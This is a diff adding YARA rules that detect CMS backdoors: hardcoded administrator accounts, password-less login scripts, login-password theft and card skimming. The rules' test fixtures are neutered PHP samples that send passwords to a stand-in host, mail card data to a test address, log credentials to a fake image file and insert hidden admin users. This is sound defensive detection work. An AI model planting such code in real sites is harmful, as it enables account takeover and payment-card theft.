@@ -125,3 +125,97 @@ rule shop_reached_from_far_below {
   condition:
     any of ($shop, $deep) and $shown and $asked and not $login and filesize < 16KB
 }
+
+rule administrator_from_code {
+  meta:
+    id = "account/administrator-from-code"
+    title = "An administrator is made by code, with a password that is written there"
+    family = "injected-or-fake-cms"
+    severity = "critical"
+    confidence = "likely"
+    description = "A user with the rights of an administrator and a fixed password is put into the site by a hook, a hidden request or a loose script: whoever deletes the user sees it come back."
+    remedy = "Delete the file and the user that it makes; change every administrator's password."
+    reference = "https://attack.mitre.org/techniques/T1136/"
+    must_match = "<?php exit; add_action('init', function () { wp_insert_user(['user_login' => 'inert', 'user_pass' => 'inert', 'role' => 'administrator']); });"
+    must_match = "<?php exit; if ($_GET['a'] == 'inert') { $id = wp_create_user('inert', 'inert'); $u = new WP_User($id); $u->set_role('administrator'); }"
+    must_match = "<?php exit; $db->setQuery(\"INSERT INTO #__user_usergroup_map VALUES($id, 8)\"); $db->setQuery(\"INSERT INTO #__users VALUES('inert')\");"
+    must_match = "<?php exit; Mage::getModel('admin/user')->setData(array('username' => 'inert', 'password' => 'inert')); $u->setRoleIds(array(1));"
+    must_not = "<?php add_action('init', 'x'); wp_insert_user(['user_login' => $login, 'user_pass' => wp_generate_password(), 'role' => 'administrator']);"
+    must_not = "<?php class UserTest extends WP_UnitTestCase { function test() { $_GET['a'] = 1; wp_insert_user(['user_login' => 'a', 'user_pass' => 'a', 'role' => 'administrator']); } }"
+    must_not = "<?php $user = Mage::getModel('admin/user')->setData(array('username' => $name, 'password' => $password)); $user->setRoleIds(array(1));"
+  strings:
+    $created = /\bwp_create_user\s?\(\s?["'][^"'\n$]{2,40}["']\s?,\s?["'][^"'\n$]{2,60}["']/
+    $inserted = /\bwp_insert_user\s?\(\s?(array\s?\(|\[)[^;]{0,300}["']user_pass["']\s?=>\s?["'][^"'$\n]{1,60}["']/
+    $role = "administrator"
+    $hook = /\badd_action\s?\(\s?["'](init|wp|wp_head|wp_footer|wp_loaded|plugins_loaded|after_setup_theme|template_redirect)["']/
+    $asked = /\$_(GET|REQUEST|COOKIE|POST)\b/
+    $loose = /(wp-load|wp-blog-header)\.php["']/
+    $group = /INSERT\s{1,4}INTO\s{1,4}[^\s(]{0,30}user_usergroup_map[^;"]{0,80}VALUES\s?\([^;")]{1,40},\s?['"]?8\b/ nocase
+    $member = /INSERT\s{1,4}INTO\s{1,4}[^\s(]{1,30}_users[^;"]{0,160}VALUES\s?\(\s?'/ nocase
+    $shop = /getModel\s?\(\s?["']admin\/user["']\s?\)[^;]{0,400}["']password["']\s?=>\s?["'][^"'$\n]{1,60}["']/
+    $roles = "setRoleIds"
+    $test = /(TestCase|->factory|WP_CLI|current_user_can|codeception|PHPUnit)/
+  condition:
+    filesize < 256KB and not $test and ((any of ($created, $inserted) and $role and any of ($hook, $asked, $loose)) or ($group and $member) or ($shop and $roles))
+}
+
+rule login_without_password {
+  meta:
+    id = "account/login-without-password"
+    title = "A loose script logs whoever asks in as administrator"
+    family = "injected-or-fake-cms"
+    severity = "critical"
+    confidence = "likely"
+    description = "A few lines start the site and set the cookie of a login for a user of their choice, without asking for a password or a token."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1556/"
+    must_match = "<?php exit; require 'wp-load.php'; $u = get_users(['role' => 'administrator'])[0]; wp_set_auth_cookie($u->ID);"
+    must_not = "<?php require 'wp-load.php'; if (wp_check_password($_POST['p'], $user->user_pass)) wp_set_auth_cookie($user->ID);"
+  strings:
+    $start = /(include|require)(_once)?\b[^;]{0,120}(wp-load|wp-blog-header|wp-config)\.php["']/
+    $cookie = /\bwp_set_auth_cookie\s?\(/
+    $asks = /(wp_check_password|wp_signon|wp_verify_nonce|wp_authenticate|current_user_can|check_admin_referer|hash_equals|hash_hmac|openssl_verify|get_transient|delete_transient|get_user_meta)\s?\(/
+  condition:
+    $start and $cookie and not $asks and filesize < 8KB
+}
+
+rule password_of_login_kept {
+  meta:
+    id = "thief/password-of-login-kept"
+    title = "Passwords that users log in with are kept or sent away"
+    family = "injected-or-fake-cms"
+    severity = "critical"
+    confidence = "likely"
+    description = "The password of the login form goes to a file, a mail or another server, or a hook of the login writes what it is given."
+    remedy = "Delete the file, then change the password of every user who logged in since."
+    reference = "https://attack.mitre.org/techniques/T1056/003/"
+    must_match = "<?php exit; wp_remote_post('https://inert.test/', ['body' => ['p' => $_POST['pwd']]]);"
+    must_match = "<?php exit; add_filter('authenticate', function ($u, $n, $p) { file_put_contents('inert.jpg', \"$n:$p\", FILE_APPEND); return $u; }, 30, 3);"
+    must_not = "<?php $user = wp_signon(['user_login' => $_POST['log'], 'user_password' => $_POST['pwd']]); wp_remote_post($captcha, ['body' => ['token' => $_POST['token']]]);"
+    must_not = "<?php add_filter('authenticate', function ($user, $name, $password) { if ($this->isBlocked($name)) return null; return $user; }, 30, 3);"
+  strings:
+    $sent = /\b(wp_remote_post|wp_remote_get|wp_mail|mail|file_put_contents|fwrite|fputs|curl_setopt)\s?\([^;]{0,300}\$_(POST|REQUEST)\s?\[\s?["'](pwd|log_pwd)["']\s?\]/
+    $kept = /\badd_(action|filter)\s?\(\s?["'](wp_authenticate|authenticate|wp_authenticate_user|check_password)["']\s?,\s?function[^{}]{0,80}\{[^}]{0,60}\b(file_put_contents|fwrite|fputs|wp_remote_post|wp_remote_get|mail|wp_mail)\s?\([^;]{0,160}\$p/
+  condition:
+    any of them
+}
+
+rule card_fields_looked_for {
+  meta:
+    id = "thief/card-fields-looked-for"
+    title = "Whatever is sent is searched for card fields, and passed on"
+    family = "skimmer-or-phish"
+    severity = "critical"
+    confidence = "likely"
+    description = "The raw body of every request is searched for names of card fields; where they stand it is mailed, written or sent elsewhere."
+    remedy = "Delete the file, then look for who placed it: restore the account from the last good backup."
+    reference = "https://attack.mitre.org/techniques/T1056/003/"
+    must_match = "<?php exit; $p = file_get_contents('php://input'); if (strpos($p, 'cc_number') !== false) mail('inert@example.test', 'x', $p);"
+    must_not = "<?php $event = json_decode(file_get_contents('php://input')); if ($event->type === 'card_number.updated') mail($shop, 'Card', $event->id);"
+  strings:
+    $body = "php://input"
+    $searched = /\b(strpos|stripos|strstr|stristr|preg_match|str_contains)\s?\([^;]{0,80}(cc_number|cc_cid|card_?number|\bcvv|\bcvc)/ nocase
+    $passed = /\b(mail|curl_exec|file_put_contents|fsockopen|fwrite)\s?\(/
+  condition:
+    $body and $searched and $passed and filesize < 32KB
+}
